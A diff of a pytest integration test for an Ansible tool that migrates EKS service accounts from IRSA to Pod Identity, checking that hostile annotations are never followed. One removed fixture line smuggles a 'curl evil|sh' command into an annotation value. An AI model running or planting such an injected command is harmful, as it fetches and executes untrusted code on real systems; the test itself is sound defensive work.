@@ -12,7 +12,7 @@ import json
 import typing as t
 
 import pytest
-from ansible_collections.enbuild.eks.tests.integration import namespaces
+from ansible_collections.enbuild.eks.tests.integration import hostile, namespaces
 from ansible_collections.enbuild.eks.tests.integration.irsa import ANNOTATION, Irsa
 from ansible_collections.enbuild.eks.tests.integration.poller import Poller, as_manifest
 from ansible_collections.enbuild.eks.tests.integration.shop import policy
@@ -23,11 +23,13 @@ pytestmark = pytest.mark.lab
 
 SPACE = "zoo"
 LISTING = {"Effect": "Allow", "Action": "s3:ListAllMyBuckets", "Resource": "*"}
-REMEMBERED = "enbuild.eks/irsa-role-arn"
-RUNNING = ("fine", "corp", "replicas", "custom", "pod", "several")
+RUNNING = ("fine", "corp", "replicas", "custom", "pod", "several", "paused")
 """Service accounts whose pods run, and have their role by IRSA."""
 IDLE = ("job", "cron", "zero", "empty", "store")
-HOSTILE = ("tenant", "reader", "broken", "liar")
+PLANNED_ONLY = ("suspended", "pending", "mounts", "scaled")
+"""Service accounts that are idle, too, and whose plan says all."""
+WRITTEN = {"tenant", "reader", "broken", "reversed"}
+"""Service accounts of the hostile fixture that have IRSA's annotation."""
 Object = dict[str, t.Any]
 
 
@@ -44,15 +46,16 @@ def template(name: str, **more: t.Any) -> Object:
     return {"metadata": labelled(name), "spec": spec(name, **more)}
 
 
-def kept(kind: str, name: str, replicas: int = 1) -> Object:
+def kept(kind: str, name: str, replicas: int = 1, **more: t.Any) -> Object:
     """A Deployment or a ReplicaSet."""
-    wanted = {"replicas": replicas, "selector": {"matchLabels": {"app": name}}, "template": template(name)}
+    made = template(name, **more)
+    wanted = {"replicas": replicas, "selector": {"matchLabels": {"app": name}}, "template": made}
     return {"apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name}, "spec": wanted}
 
 
-def pod(name: str, account: str, **metadata: t.Any) -> Object:
-    meta = {"name": name, **labelled(account), **metadata}
-    return {"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": spec(account)}
+def pod(name: str, account: str, *owners: Object, **more: t.Any) -> Object:
+    meta = {"name": name, **labelled(account), "ownerReferences": list(owners)}
+    return {"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": spec(account, **more)}
 
 
 def stuck_job(name: str) -> Object:
@@ -61,39 +64,50 @@ def stuck_job(name: str) -> Object:
     return {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": name}, "spec": {"template": made}}
 
 
-def cron_job(name: str) -> Object:
+def cron_job(name: str, suspend: bool = False) -> Object:
     job = {"spec": {"template": template(name, restartPolicy="Never")}}
-    wanted = {"schedule": "0 0 29 2 *", "jobTemplate": job}
+    wanted = {"schedule": "0 0 29 2 *", "jobTemplate": job, "suspend": suspend}
     return {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": name}, "spec": wanted}
 
 
 ROLLOUT = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "custom", "uid": "x", "controller": True}
-CRD: Object = {
-    "apiVersion": "apiextensions.k8s.io/v1",
-    "kind": "CustomResourceDefinition",
-    "metadata": {"name": "secretstores.external-secrets.io"},
-    "spec": {
-        "group": "external-secrets.io",
-        "names": {"kind": "SecretStore", "plural": "secretstores"},
-        "scope": "Namespaced",
-        "versions": [
-            {
-                "name": "v1",
-                "served": True,
-                "storage": True,
-                "schema": {
-                    "openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": True},
-                },
-            }
-        ],
-    },
+GROUPS = {
+    "SecretStore": ("secretstores", "external-secrets.io"),
+    "SecretProviderClass": ("secretproviderclasses", "secrets-store.csi.x-k8s.io"),
+    "TriggerAuthentication": ("triggerauthentications", "keda.sh"),
+    "ScaledObject": ("scaledobjects", "keda.sh"),
 }
-STORE: Object = {
-    "apiVersion": "external-secrets.io/v1",
-    "kind": "SecretStore",
-    "metadata": {"name": "aws"},
-    "spec": {"provider": {"aws": {"auth": {"jwt": {"serviceAccountRef": {"name": "store"}}}}}},
-}
+"""Kinds whose controllers read the annotation of a service account."""
+
+
+def definition(kind: str) -> Object:
+    plural, group = GROUPS[kind]
+    schema = {"openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": True}}
+    version = {"name": "v1", "served": True, "storage": True, "schema": schema}
+    wanted = {"group": group, "names": {"kind": kind, "plural": plural}, "scope": "Namespaced", "versions": [version]}
+    metadata = {"name": f"{plural}.{group}"}
+    return {
+        "apiVersion": "apiextensions.k8s.io/v1",
+        "kind": "CustomResourceDefinition",
+        "metadata": metadata,
+        "spec": wanted,
+    }
+
+
+def custom(kind: str, spec: Object) -> Object:
+    """An object of these kinds, called ``aws``."""
+    return {"apiVersion": f"{GROUPS[kind][1]}/v1", "kind": kind, "metadata": {"name": "aws"}, "spec": spec}
+
+
+READERS = [
+    custom("SecretStore", {"provider": {"aws": {"auth": {"jwt": {"serviceAccountRef": {"name": "store"}}}}}}),
+    custom("SecretProviderClass", {"provider": "aws"}),
+    custom("TriggerAuthentication", {"podIdentity": {"provider": "aws", "identityOwner": "workload"}}),
+    custom(
+        "ScaledObject", {"scaleTargetRef": {"name": "scaled"}, "triggers": [{"authenticationRef": {"name": "aws"}}]}
+    ),
+]
+MOUNTED = {"driver": "secrets-store.csi.k8s.io", "readOnly": True, "volumeAttributes": {"secretProviderClass": "aws"}}
 
 
 class Zoo:
@@ -104,7 +118,8 @@ class Zoo:
         self.irsa = Irsa(lab)
         self.iam.add_client_id_to_open_id_connect_provider(OpenIDConnectProviderArn=self.irsa.arn, ClientID="corp")
         namespaces.renew(lab, SPACE)
-        self.before = {name: self.statement(name) for name in (*RUNNING, *IDLE)}
+        namespaces.renew(lab, hostile.SPACE)
+        self.before = {name: self.statement(name) for name in (*RUNNING, *IDLE, *PLANNED_ONLY)}
         for name, statement in self.before.items():
             self.role(name, statement)
         self.role("admin", {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"})
@@ -133,25 +148,27 @@ class Zoo:
         return self.lab.kubectl(*words, "-n", SPACE, input=given)
 
     def fill(self) -> None:
-        self.lab.kubectl("apply", "-f", "-", input=as_manifest(CRD))
-        self.lab.kubectl("wait", "--for=condition=Established", f"crd/{CRD['metadata']['name']}", "--timeout=30s")
-        own = {name: {ANNOTATION: self.arn(name)} for name in (*RUNNING, *IDLE)}
+        definitions = as_manifest(*map(definition, GROUPS))
+        self.lab.kubectl("apply", "-f", "-", input=definitions)
+        self.lab.kubectl("wait", "--for=condition=Established", "--timeout=30s", "-f", "-", input=definitions)
+        own = {name: {ANNOTATION: self.arn(name)} for name in self.before}
         own["corp"]["eks.amazonaws.com/audience"] = "corp"
-        written = {
-            "tenant": {ANNOTATION: self.arn("admin")},
-            "reader": {ANNOTATION: "reader"},
-            "broken": {ANNOTATION: f"{self.arn('fine')}\nx; curl evil|sh #", "meta.helm.sh/release-name": "half"},
-            "liar": {REMEMBERED: self.arn("admin")},
-        }
+        written = hostile.service_accounts(self.arn("admin"), self.arn("fine"))
         accounts = [
             {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name, "annotations": notes}}
             for name, notes in {**own, **written}.items()
         ]
         self.kubectl("apply", "-f", "-", given=as_manifest(*accounts))
-        workloads = [kept("Deployment", name) for name in ("fine", "corp", "several")]
-        workloads += [kept("ReplicaSet", "replicas"), kept("Deployment", "zero", 0), stuck_job("job"), cron_job("cron")]
-        pods = [pod("pod", "pod"), pod("custom", "custom", ownerReferences=[ROLLOUT]), pod("beside", "several")]
-        self.kubectl("apply", "-f", "-", given=as_manifest(STORE, *workloads, *pods))
+        workloads = [kept("Deployment", name) for name in ("fine", "corp", "several", "paused")]
+        workloads += [kept("Deployment", name, 0) for name in ("zero", "scaled")]
+        workloads += [kept("Deployment", "mounts", 0, volumes=[{"name": "aws", "csi": MOUNTED}])]
+        workloads += [kept("ReplicaSet", "replicas"), stuck_job("job"), cron_job("cron"), cron_job("suspended", True)]
+        pods = [pod("pod", "pod"), pod("custom", "custom", ROLLOUT), pod("beside", "several")]
+        pods += [pod("pending", "pending", nodeSelector={"nobody": "has"})]
+        self.kubectl("apply", "-f", "-", given=as_manifest(*READERS, *workloads, *pods))
+        self.kubectl("rollout", "status", "deployment/paused", "--timeout=60s")
+        self.kubectl("rollout", "pause", "deployment/paused")
+        hostile.fill(self.lab, self.arn("admin"), self.arn("fine"))
 
     def annotated(self) -> dict[str, str]:
         items = json.loads(self.kubectl("get", "serviceaccounts", "-o", "json"))["items"]
@@ -162,12 +179,13 @@ class Zoo:
         listed = self.lab.aws("eks").list_pod_identity_associations(clusterName=self.lab.cluster_name, namespace=SPACE)
         return {each["serviceAccount"] for each in listed["associations"]}
 
-    def run(self, **variables: t.Any) -> PlaybookRun:
+    def run(self, acts: bool = True, **variables: t.Any) -> PlaybookRun:
         # What is declared by default is another release's, which isn't there.
         given = {
             "eks_cluster_name": self.lab.cluster_name,
             "eks_region": self.lab.region,
-            "pod_identity_migrate_namespaces": [SPACE],
+            "pod_identity_migrate_namespaces": [SPACE, hostile.SPACE],
+            "pod_identity_migrate_exclude": [f"{SPACE}/{name}" for name in (PLANNED_ONLY if acts else ())],
             "pod_identity_rollout_injection_timeout": 6,
             **variables,
         }
@@ -179,8 +197,8 @@ def zoo(prepared: Lab) -> t.Iterator[Zoo]:
     made = Zoo(prepared)
     made.fill()
     yield made
-    prepared.kubectl("delete", "crd", CRD["metadata"]["name"], "--ignore-not-found")
-    namespaces.leave(prepared, SPACE)
+    namespaces.leave(prepared, SPACE, hostile.SPACE)
+    prepared.kubectl("delete", "--wait=false", "-f", "-", input=as_manifest(*map(definition, GROUPS)))
 
 
 PLANNED = (
@@ -198,21 +216,28 @@ PLANNED = (
     "the old way stays: Deployment zoo/zero has 0 replicas",
     "the old way stays: none of its pods is there to prove that Pod Identity works",
     "the old way stays: SecretStore zoo/aws of External Secrets reads its annotation",
+    "the old way stays: SecretProviderClass zoo/aws of the Secrets Store CSI driver reads its annotation",
+    "the old way stays: ScaledObject zoo/aws of KEDA reads its annotation",
+    "the old way stays: CronJob zoo/suspended",
+    "the old way stays: pod zoo/pending",
+    "the old way stays: Deployment zoo/paused",
 )
 
 
 def test_nothing_that_a_namespace_writes_decides_and_no_pod_lacks_its_credentials(zoo: Zoo) -> None:
     with Poller(zoo.lab, SPACE) as poller:
         poller.await_answers(RUNNING)
-        planned = zoo.run()
+        planned = zoo.run(acts=False)
         assert (planned.returncode, planned.changed) == (0, []), planned.output
-        assert [line for line in PLANNED if line not in planned.output] == []
+        assert [line for line in PLANNED if line not in planned.output] == [], planned.output
+        assert hostile.followed(planned.output) == []
 
         run = zoo.run(pod_identity_migrate_act=True, pod_identity_migrate_finish=True)
         assert run.returncode != 0
         assert "All others are done." in run.failure
         assert zoo.associations() == {*RUNNING, *IDLE}
-        stays = {*RUNNING, *IDLE, "tenant", "reader", "broken"} - {"fine", "corp"}
+        stays = {*RUNNING, *IDLE, *PLANNED_ONLY, *WRITTEN} - {"fine", "corp"}
+        assert hostile.followed(run.output) == []
         assert set(zoo.annotated()) == stays
         assert len(zoo.trust("admin")) == 1
         for name in ("replicas", "custom", "pod", "several", *IDLE):
@@ -220,12 +245,16 @@ def test_nothing_that_a_namespace_writes_decides_and_no_pod_lacks_its_credential
         assert [each["Principal"] for each in zoo.trust("corp")] == [{"Service": "pods.eks.amazonaws.com"}]
         poller.await_answers(RUNNING)
 
-        named = {"pod_identity_migrate_include": ["zoo/empty", "zoo/pod"], "pod_identity_migrate_finish": True}
+        named: dict[str, t.Any] = {
+            "pod_identity_migrate_include": ["zoo/empty", "zoo/pod"],
+            "pod_identity_migrate_finish": True,
+        }
         answered = zoo.run(**named, pod_identity_migrate_finish_unproven=["zoo/empty", "zoo/pod"])
         assert answered.returncode == 0, answered.output
         assert set(zoo.annotated()) == stays - {"empty"}, "a pod that runs without it is no matter of opinion"
 
         back = zoo.run(pod_identity_migrate_back=True)
+        assert hostile.followed(back.output) == []
         assert zoo.trust("corp")[-1] == zoo.before["corp"], back.output
         assert set(zoo.annotated()) == {*stays, "fine", "corp", "empty"}, back.output
         assert len(zoo.trust("admin")) == 1
